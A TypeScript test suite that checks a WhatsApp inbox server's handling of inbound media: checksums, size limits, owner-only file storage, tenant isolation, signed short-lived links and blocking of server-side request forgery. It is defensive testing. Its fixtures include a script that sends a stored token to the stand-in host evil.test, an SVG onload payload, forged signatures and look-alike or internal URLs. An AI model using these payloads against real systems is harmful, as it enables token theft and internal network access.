import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaRoot } from './storeInboundMedia.js';
import { signMediaUrl } from './signedMediaUrl.js';
import { DATABASE_KINDS } from '#server/testing/testDatabases.js';
import { contact, envelope, inbound } from '../fixtures/webhookFixtures.js';
import { startWhatsAppKit, type WhatsAppKit } from '../fixtures/whatsappTestKit.js';

describe.each(DATABASE_KINDS)('inbound media on %s', (kind) => {
  let kit: WhatsAppKit;
  beforeAll(async () => {
    kit = await startWhatsAppKit(kind);
  });
  afterAll(() => kit?.dispose());

  async function receive(clientId: string, phoneNumberId: string, message: Record<string, unknown>) {
    const from = String(message.from);
    await kit.deliver(envelope(phoneNumberId, { contacts: [contact(from)], messages: [message] }));
    await kit.settle();
    const { messages } = kit.server.app.db.t;
    const [row] = await kit.server.app.db.tenant(clientId, (tx) =>
      tx
        .select()
        .from(messages)
        .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))),
    );
    return row!;
  }

  it("downloads with the client's token, verifies the checksum, stores it owner-only and serves it to the client's users only", async () => {
    const client = await kit.newClient();
    const other = await kit.newClient();
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, index) => index % 251));
    const media = kit.graph.addMedia(`photo-${client.id}`, bytes, 'image/jpeg');
    const row = await receive(client.id, client.phoneNumberId, inbound.image('5511970000001', media, 'meu pedido'));
    expect(row.mediaUrl).toBe(`/media/${row.id}`);
    expect(row.metadata.media).toMatchObject({ size: 4096, mimeType: 'image/jpeg' });

    const agent = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
    const outsider = await kit.server.signIn({ clientId: other.id, role: 'owner' });
    const served = await fetch(`${kit.server.url}${row.mediaUrl}`, { headers: { authorization: `Bearer ${agent.token}` } });
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(served.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
    // Customers' files are readable by the server's user only.
    const stored = path.join(mediaRoot(kit.server.app), String((row.metadata.media as { file: string }).file));
    expect(fs.statSync(stored).mode & 0o777).toBe(0o600);
    expect((await fetch(`${kit.server.url}${row.mediaUrl}`)).status).toBe(401);
    expect((await fetch(`${kit.server.url}${row.mediaUrl}`, { headers: { authorization: `Bearer ${outsider.token}` } })).status).toBe(404);
    expect((await fetch(`${kit.server.url}/media/not-a-uuid`, { headers: { authorization: `Bearer ${agent.token}` } })).status).toBe(404);
  });

  it('shows media in the inbox list with its kind, also without a caption', async () => {
    const client = await kit.newClient();
    const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
    const preview = async (phone: string) => (await viewer.caller.conversations.list({ limit: 10 })).items.find((row) => row.phone === phone)?.lastMessage;
    const photo = kit.graph.addMedia(`bare-${client.id}`, Buffer.alloc(512, 7), 'image/jpeg');
    await receive(client.id, client.phoneNumberId, inbound.image('5511970000011', photo));
    expect(await preview('5511970000011')).toBe('📷');
    const captioned = kit.graph.addMedia(`captioned-${client.id}`, Buffer.alloc(512, 9), 'image/jpeg');
    await receive(client.id, client.phoneNumberId, inbound.image('5511970000011', captioned, 'segue o comprovante'));
    expect(await preview('5511970000011')).toBe('📷 segue o comprovante');
  });

  it('never uses the URL in the webhook: the media id is resolved through the Graph API', async () => {
    const client = await kit.newClient();
    const media = kit.graph.addMedia(`doc-${client.id}`, Buffer.from('%PDF-1.4 nota fiscal'), 'application/pdf');
    kit.graph.expireMediaUrl('?mid=expired');
    const message = inbound.document('5511970000002', media, 'nota.pdf');
    (message.document as Record<string, unknown>).url = `${kit.graph.url}/media-download/${encodeURIComponent(media.id)}?mid=expired`;
    const row = await receive(client.id, client.phoneNumberId, message);
    expect(row.metadata.media).toMatchObject({ size: 20, filename: 'nota.pdf' });
    expect(row.mediaUrl).toBe(`/media/${row.id}`);
  });

  it("records, without storing, a file whose checksum does not match or that is over its type's limit", async () => {
    const client = await kit.newClient();
    const tampered = kit.graph.addMedia(`bad-${client.id}`, Buffer.from('real bytes'), 'image/jpeg');
    const wrong = await receive(
      client.id,
      client.phoneNumberId,
      inbound.image('5511970000003', { ...tampered, sha256: Buffer.alloc(32, 7).toString('base64') }),
    );
    expect(wrong.mediaUrl).toBeNull();
    expect(wrong.metadata.media).toMatchObject({ error: expect.stringContaining('does not match the sha256') });

    const huge = kit.graph.addMedia(`big-${client.id}`, Buffer.alloc(600 * 1024, 1), 'image/webp');
    const sticker = await receive(client.id, client.phoneNumberId, inbound.sticker('5511970000003', huge));
    expect(sticker.mediaUrl).toBeNull();
    expect(sticker.metadata.media).toMatchObject({ error: expect.stringContaining('more than the 512000 bytes allowed') });
    // The message itself is there, and the conversation moved on.
    expect(sticker.type).toBe('sticker');
  });
});

describe.each(DATABASE_KINDS)('media links and served types on %s', (kind) => {
  let kit: WhatsAppKit;
  beforeAll(async () => {
    kit = await startWhatsAppKit(kind);
  });
  afterAll(() => kit?.dispose());

  async function receive(clientId: string, phoneNumberId: string, message: Record<string, unknown>) {
    await kit.deliver(envelope(phoneNumberId, { contacts: [contact(String(message.from))], messages: [message] }));
    await kit.settle();
    const { messages } = kit.server.app.db.t;
    const [row] = await kit.server.app.db.tenant(clientId, (tx) =>
      tx
        .select()
        .from(messages)
        .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))),
    );
    return row!;
  }

  it("serves a customer's HTML document and SVG image as inert downloads, never inline", async () => {
    const client = await kit.newClient();
    const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
    const script = '<html><script>fetch("https://evil.test/?t="+localStorage.getItem("token"))</script></html>';
    const html = kit.graph.addMedia(`html-${client.id}`, Buffer.from(script), 'text/html');
    const svg = kit.graph.addMedia(`svg-${client.id}`, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/svg+xml');
    const page = await receive(client.id, client.phoneNumberId, inbound.document('5511970000021', html, 'fatura.html'));
    const picture = await receive(client.id, client.phoneNumberId, inbound.image('5511970000021', svg));
    for (const row of [page, picture]) {
      const link = await viewer.caller.whatsapp.mediaLink({ messageId: row.id });
      const served = await fetch(`${kit.server.url}${link.url}`);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe('application/octet-stream');
      expect(served.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(served.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      await served.arrayBuffer();
    }
    // A PDF keeps its type but downloads too; a JPEG shows inline.
    const pdf = kit.graph.addMedia(`pdf-${client.id}`, Buffer.from('%PDF-1.4 boleto'), 'application/pdf');
    const pdfRow = await receive(client.id, client.phoneNumberId, inbound.document('5511970000021', pdf, 'boleto.pdf'));
    const pdfServed = await fetch(`${kit.server.url}${(await viewer.caller.whatsapp.mediaLink({ messageId: pdfRow.id })).url}`);
    expect(pdfServed.headers.get('content-type')).toBe('application/pdf');
    expect(pdfServed.headers.get('content-disposition')).toMatch(/^attachment; filename="boleto.pdf"/);
  });

  it('accepts only short-lived signed links or a Bearer header: no session token in the URL, no expired, forged or borrowed signature', async () => {
    const client = await kit.newClient();
    const other = await kit.newClient();
    const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
    const outsider = await kit.server.signIn({ clientId: other.id, role: 'owner' });
    const mine = await receive(
      client.id,
      client.phoneNumberId,
      inbound.image('5511970000031', kit.graph.addMedia(`own-${client.id}`, Buffer.alloc(300, 1), 'image/png')),
    );
    const theirs = await receive(
      other.id,
      other.phoneNumberId,
      inbound.image('5511970000032', kit.graph.addMedia(`their-${other.id}`, Buffer.alloc(300, 2), 'image/png')),
    );

    const link = await viewer.caller.whatsapp.mediaLink({ messageId: mine.id });
    expect(link.url).toMatch(new RegExp(`^/media/${mine.id}\\?exp=\\d+&sig=[\\w-]+$`));
    expect(Date.parse(link.expiresAt) - Date.now()).toBeLessThanOrEqual(10 * 60_000);
    const served = await fetch(`${kit.server.url}${link.url}`);
    expect(served.status).toBe(200);
    expect(Buffer.from(await served.arrayBuffer()).equals(Buffer.alloc(300, 1))).toBe(true);

    // The session token in a query string is refused outright.
    expect((await fetch(`${kit.server.url}/media/${mine.id}?token=${viewer.token}`)).status).toBe(401);
    // Expired (signed eleven minutes ago) and forged signatures.
    const old = signMediaUrl(kit.server.app, { clientId: client.id, messageId: mine.id }, Date.now() - 11 * 60_000);
    expect((await fetch(`${kit.server.url}${old.url}`)).status).toBe(401);
    const sig = new URL(link.url, kit.server.url).searchParams.get('sig')!;
    const forged = link.url.replace(sig, `${sig.slice(0, -2)}${sig.endsWith('AA') ? 'BB' : 'AA'}`);
    expect((await fetch(`${kit.server.url}${forged}`)).status).toBe(401);
    const later = link.url.replace(/exp=(\d+)/, (_m, exp: string) => `exp=${Number(exp) + 60}`);
    expect((await fetch(`${kit.server.url}${later}`)).status).toBe(401);
    // Another client's media id with this link's signature, and a link the other client cannot get.
    expect((await fetch(`${kit.server.url}${link.url.replace(mine.id, theirs.id)}`)).status).toBe(401);
    await expect(outsider.caller.whatsapp.mediaLink({ messageId: mine.id })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    // Malformed links are a 401 too, never a 500.
    expect((await fetch(`${kit.server.url}/media/not-a-uuid?exp=1&sig=x`)).status).toBe(401);
    expect((await fetch(`${kit.server.url}/media/${mine.id}?exp=abc&sig=`)).status).toBe(401);
  });

  it('never fetches a URL the webhook or a Graph answer points elsewhere: the internal server gets no request and no token', async () => {
    const requests: Array<{ url: string | undefined; authorization: string | undefined }> = [];
    const internal = http.createServer((request, response) => {
      requests.push({ url: request.url, authorization: request.headers.authorization });
      response.writeHead(200, { 'content-type': 'text/plain' }).end('internal secret: root password');
    });
    await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
    const internalUrl = `http://127.0.0.1:${(internal.address() as AddressInfo).port}`;
    try {
      const client = await kit.newClient();
      const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
      const secret = Buffer.from('internal secret: root password');
      const sha256 = (await import('node:crypto')).createHash('sha256').update(secret).digest('base64');
      // 1. A signed webhook whose media url points at the internal server (an id Meta does not know).
      const forged = inbound.document('5511970000041', { id: 'no-such-media', sha256, mime_type: 'text/plain' }, 'secret.txt');
      (forged.document as Record<string, unknown>).url = `${internalUrl}/latest/meta-data`;
      const first = await receive(client.id, client.phoneNumberId, forged);
      // 2. A Graph answer for a known id pointing at the internal server, and at look-alike hosts.
      const known = kit.graph.addMedia(`known-${client.id}`, secret, 'text/plain');
      const rows = [first];
      for (const url of [`${internalUrl}/admin`, 'https://lookaside.fbsbx.com.evil.test/x', `https://user:pw@${new URL(kit.graph.url).host}/x`]) {
        kit.graph.setMediaDownloadUrl(known.id, url);
        const message = inbound.document('5511970000041', known, 'secret.txt');
        (message.document as Record<string, unknown>).url = `${internalUrl}/webhook-url`;
        rows.push(await receive(client.id, client.phoneNumberId, message));
      }
      expect(requests).toEqual([]);
      for (const row of rows) {
        expect(row.mediaUrl).toBeNull();
        expect(row.metadata.media).toMatchObject({ error: expect.stringContaining('download failed') });
        await expect(viewer.caller.whatsapp.mediaLink({ messageId: row.id })).rejects.toMatchObject({ code: 'NOT_FOUND' });
        const byHeader = await fetch(`${kit.server.url}/media/${row.id}`, { headers: { authorization: `Bearer ${viewer.token}` } });
        expect(byHeader.status).toBe(404);
        expect(await byHeader.text()).not.toContain('root password');
      }
    } finally {
      await new Promise<void>((resolve) => internal.close(() => resolve()));
    }
  });
});
